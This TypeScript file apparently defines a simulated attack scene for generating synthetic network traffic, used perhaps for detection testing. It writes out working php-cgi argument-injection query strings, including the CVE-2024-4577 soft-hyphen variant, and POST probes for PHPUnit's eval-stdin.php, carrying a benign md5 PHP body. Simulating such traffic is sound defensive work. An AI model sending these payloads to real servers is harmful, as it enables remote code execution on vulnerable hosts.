import type {Headers} from '../protocols/http.ts';
import {attacker} from './hosts.ts';
import type {Scene} from './scene.ts';
import {webAttack} from './web-attack.ts';

const PROGRAM = "<?php echo(md5('demo'));";
const FORM: Headers = {'Content-Type': 'application/x-www-form-urlencoded'};
const POST = {method: 'POST', headers: FORM, body: PROGRAM} as const;

/** `-d allow_url_include=1 -d auto_prepend_file=php://input`, as the command line of php-cgi. */
const PREPEND = '-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input';
/** The same with a soft hyphen, which Windows turns into a hyphen (CVE-2024-4577). */
const SOFT_PREPEND = '%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input';
const STDIN = 'phpunit/phpunit/src/Util/PHP/eval-stdin.php';

export const phpInjection = {
  name: 'php-injection',
  describe: 'a source makes php-cgi execute the request body, and looks for a PHPUnit file that evaluates it',
  minute: 60,
  packets: random =>
    webAttack(
      {
        from: attacker(85),
        port: 80,
        requests: [
          {target: `/cgi-bin/php?${PREPEND}`, ...POST},
          {target: `/cgi-bin/php5?${PREPEND}`, ...POST},
          {target: `/index.php?${SOFT_PREPEND}`, ...POST},
          {target: `/php-cgi/php-cgi.exe?${SOFT_PREPEND}`, ...POST},
          {target: `/vendor/${STDIN}`, ...POST},
          {target: `/laravel/vendor/${STDIN}`, ...POST},
          {target: `/lib/vendor/${STDIN}`, ...POST},
        ],
      },
      random,
    ),
} as const satisfies Scene;
